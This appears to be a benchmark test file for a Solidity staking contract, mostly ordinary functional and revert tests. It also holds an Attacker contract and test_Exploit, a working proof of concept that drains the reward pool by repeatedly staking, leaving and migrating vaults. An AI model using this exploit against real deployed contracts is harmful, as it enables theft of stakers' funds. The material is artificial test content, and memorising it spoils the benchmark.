// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-3bf2f6d5-7bef-4490-a25a-430747510004

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./StakeManager.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "C") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Attacker {
    StakeManager private m;
    Coin private c;

    constructor(StakeManager m_, Coin c_) {
        m = m_;
        c = c_;
        c.approve(address(m), type(uint256).max);
    }

    function round() external {
        StakeVault a = m.open();
        StakeVault b = m.open();
        m.stake(b, 1e6, 0, 0);
        m.stake(a, uint96(c.balanceOf(address(this))), 2, 0);
        m.leave(a);
        m.migrate(b, a);
        a.out(c.balanceOf(address(a)), address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant A = address(0xA11CE);
    address private constant B = address(0xB0B);
    uint256 private constant T = 1_767_000_000;

    Coin private c;
    Coin private d;
    StakeManager private m;
    Attacker private x;
    StakeVault private u;
    StakeVault private v;
    StakeVault private w;

    function setUp() public {
        vm.warp(T);
        c = new Coin();
        d = new Coin();
        m = new StakeManager(c, new VaultFactory(), 500_000e6);
        m.addTier(0, 0, 0);
        m.addTier(90 days, 150, 1);
        m.addTier(360 days, 800, 4);
        c.approve(address(m), type(uint256).max);
        m.fund(50_000e6);
        c.transfer(A, 20_000e6);
        c.transfer(B, 5_000e6);
        x = new Attacker(m, c);
        c.transfer(address(x), 100_001e6);
        vm.startPrank(A);
        c.approve(address(m), type(uint256).max);
        u = m.open();
        v = m.open();
        m.stake(u, 10_000e6, 2, 800e6);
        vm.stopPrank();
        vm.startPrank(B);
        c.approve(address(m), type(uint256).max);
        w = m.open();
        m.stake(w, 5_000e6, 1, 0);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(c.balanceOf(A) == 10_800e6 && m.pool() == 49_125e6, "pay");
        require(m.pts(A) == 40_000e6 && m.votes(A) == 40_000e6 && m.allPts() == 45_000e6, "pts");
        require(m.sum() == 15_000e6 && m.room() == 485_000e6, "sum");
        require(m.left(u) == 360 days && m.left(v) == 0, "left");
        require(m.vaults(A).length == 2 && m.vaults(A)[1] == v && m.tierCount() == 3, "lists");

        vm.startPrank(A);
        m.migrate(u, v);
        require(c.balanceOf(address(v)) == 10_000e6 && v.end() == T + 360 days && m.allPts() == 45_000e6, "moved");
        m.delegate(B);
        require(m.votes(A) == 0 && m.votes(B) == 45_000e6 && m.agentOf(A) == B, "agent");
        u = m.open();
        m.stake(u, 100e6, 0, 0);
        require(m.votes(B) == 45_000e6, "no pts");
        require(m.relock(u, 1, 1.5e6) == 1.5e6, "relock");
        require(m.votes(B) == 45_100e6 && u.end() == T + 90 days, "pts of the relock");
        m.delegate(address(0));
        require(m.votes(A) == 40_100e6 && m.votes(B) == 5_000e6, "own again");
        m.leave(v);
        require(m.pts(A) == 100e6 && m.sum() == 5_100e6 && v.end() == T + 360 days, "gone");
        vm.stopPrank();

        vm.warp(T + 90 days);
        vm.startPrank(B);
        w.out(1_000e6, B);
        require(m.pts(B) == 4_000e6 && m.sum() == 4_100e6, "a part");
        require(m.relock(w, 2, 0) == 320e6 && m.pts(B) == 16_000e6, "relock");
        vm.stopPrank();
        vm.startPrank(A);
        u.out(100e6, A);
        m.stake(u, 50e6, 1, 0);
        vm.warp(T + 360 days);
        v.out(10_000e6, B);
        vm.stopPrank();
        require(c.balanceOf(B) == 11_395e6, "out to another");
        d.transfer(address(v), 3e6);
        vm.prank(A);
        v.sweep(d, A);
        require(d.balanceOf(A) == 3e6, "other coins");

        m.setCap(10e6);
        require(m.room() == 0, "full");
        m.setCap(500_000e6);
        m.setOpen(1, false);
        m.setOpen(1, true);
        m.pause();
        vm.prank(A);
        u.out(50e6, A);
        vm.prank(B);
        m.leave(w);
        m.unpause();
        uint256 p = m.pool();
        c.transfer(address(m), 7e6);
        d.transfer(address(m), 8e6);
        require(m.sweep(c, A) == 7e6 && m.sweep(d, A) == 8e6 && m.pool() == p, "swept");
        m.defund(p, address(this));
        require(m.pool() == 0 && c.balanceOf(address(m)) == 0, "defunded");
        m.transferOwnership(A);
        vm.startPrank(A);
        m.acceptOwnership();
        m.renounceOwnership();
        vm.stopPrank();
        require(m.owner() == address(0), "none");
    }

    function test_RefusesStrangers() public {
        StakeVault y = x_open();
        vm.startPrank(B);
        vm.expectRevert(StakeManager.NotOwn.selector);
        m.stake(v, 1e6, 0, 0);
        vm.expectRevert(StakeManager.NotOwn.selector);
        m.relock(u, 0, 0);
        vm.expectRevert(StakeManager.NotOwn.selector);
        m.migrate(u, y);
        vm.expectRevert(StakeManager.NotOwn.selector);
        m.migrate(w, v);
        vm.expectRevert(StakeManager.NotOwn.selector);
        m.leave(u);
        vm.stopPrank();
    }

    function x_open() private returns (StakeVault) {
        vm.prank(B);
        return m.open();
    }

    function test_RefusesVaults() public {
        StakeVault y = new StakeVault(c, A, address(m));
        vm.startPrank(A);
        vm.expectRevert(StakeManager.NoVault.selector);
        m.stake(y, 1e6, 0, 0);
        vm.expectRevert(StakeManager.NoVault.selector);
        m.relock(y, 0, 0);
        vm.expectRevert(StakeManager.NoVault.selector);
        m.migrate(y, v);
        vm.expectRevert(StakeManager.NoVault.selector);
        m.migrate(u, y);
        vm.expectRevert(StakeManager.NoVault.selector);
        m.leave(y);
        vm.stopPrank();
        require(c.balanceOf(address(y)) == 0, "none");
    }

    function test_RefusesStates() public {
        vm.startPrank(A);
        vm.expectRevert(StakeManager.Used.selector);
        m.stake(u, 1e6, 0, 0);
        vm.expectRevert(StakeManager.NoAcc.selector);
        m.relock(v, 0, 0);
        vm.expectRevert(StakeManager.NoAcc.selector);
        m.migrate(v, v);
        vm.expectRevert(StakeManager.NoAcc.selector);
        m.leave(v);
        vm.expectRevert(StakeManager.Used.selector);
        m.migrate(u, u);
        vm.expectRevert(StakeManager.Early.selector);
        m.relock(u, 2, 0);
        m.leave(u);
        vm.expectRevert(StakeManager.Used.selector);
        m.stake(u, 1e6, 0, 0);
        vm.expectRevert(StakeManager.NoAcc.selector);
        m.migrate(u, v);
        vm.expectRevert(StakeManager.NoAcc.selector);
        m.relock(u, 0, 0);
        vm.expectRevert(StakeManager.Same.selector);
        m.delegate(A);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.startPrank(A);
        vm.expectRevert(StakeManager.Small.selector);
        m.stake(v, 1e6 - 1, 0, 0);
        vm.expectRevert(StakeManager.Cap.selector);
        m.stake(v, 485_000e6 + 1, 0, 0);
        vm.expectRevert(StakeManager.Less.selector);
        m.stake(v, 100e6, 1, 1.5e6 + 1);
        vm.stopPrank();
        vm.expectRevert(StakeManager.Dry.selector);
        m.defund(49_125e6 + 1, A);
        m.defund(49_125e6, A);
        vm.startPrank(A);
        vm.expectRevert(StakeManager.Dry.selector);
        m.stake(v, 100e6, 1, 0);
        vm.stopPrank();
        m.setOpen(0, false);
        vm.startPrank(A);
        vm.expectRevert(Tiers.Closed.selector);
        m.stake(v, 100e6, 0, 0);
        vm.stopPrank();
    }

    function test_RefusesLocked() public {
        vm.startPrank(A);
        vm.warp(T + 360 days - 1);
        vm.expectRevert(StakeVault.Locked.selector);
        u.out(1, A);
        m.leave(u);
        vm.expectRevert(StakeVault.Locked.selector);
        u.out(1, A);
        vm.expectRevert(StakeVault.StakeCoin.selector);
        u.sweep(c, A);
        vm.expectRevert(StakeVault.NotOwn.selector);
        w.out(1, A);
        vm.expectRevert(StakeVault.NotOwn.selector);
        w.sweep(d, A);
        vm.expectRevert(StakeVault.NotMgr.selector);
        u.setEnd(0);
        vm.expectRevert(StakeVault.NotMgr.selector);
        u.push(A, 1);
        vm.stopPrank();
    }

    function test_RefusesOthersThanTheOwner() public {
        bytes memory why = "Ownable: caller is not the owner";
        vm.startPrank(A);
        vm.expectRevert(why);
        m.defund(1, A);
        vm.expectRevert(why);
        m.setCap(1);
        vm.expectRevert(why);
        m.pause();
        vm.expectRevert(why);
        m.sweep(d, A);
        vm.expectRevert(why);
        m.addTier(0, 0, 0);
        vm.expectRevert(why);
        m.setOpen(0, false);
        vm.stopPrank();
        m.pause();
        vm.startPrank(A);
        vm.expectRevert(why);
        m.unpause();
        vm.expectRevert("Pausable: paused");
        m.stake(v, 1e6, 0, 0);
        vm.expectRevert("Pausable: paused");
        m.migrate(u, v);
        vm.warp(T + 360 days);
        vm.expectRevert("Pausable: paused");
        m.relock(u, 0, 0);
        vm.stopPrank();
    }

    function test_RefusesTiers() public {
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(90 days, 2_001, 1);
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(90 days, 1, 17);
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(720 days + 1, 1, 1);
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(30 days - 1, 0, 0);
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(0, 1, 0);
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(0, 0, 1);
        for (uint256 i = 3; i < 16; i++) {
            m.addTier(720 days, 2_000, 16);
        }
        vm.expectRevert(Tiers.BadTier.selector);
        m.addTier(90 days, 1, 1);
    }

    function exploit() public {
        for (uint256 i = 0; i < 4; i++) {
            x.round();
        }
    }

    function test_Exploit() public {
        uint256 b = c.balanceOf(address(x));
        exploit();
        require(c.balanceOf(address(x)) >= b + 36_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(m);
    }

    function attacker() public view returns (address) {
        return address(x);
    }

    function coin() public view returns (address) {
        return address(c);
    }
}
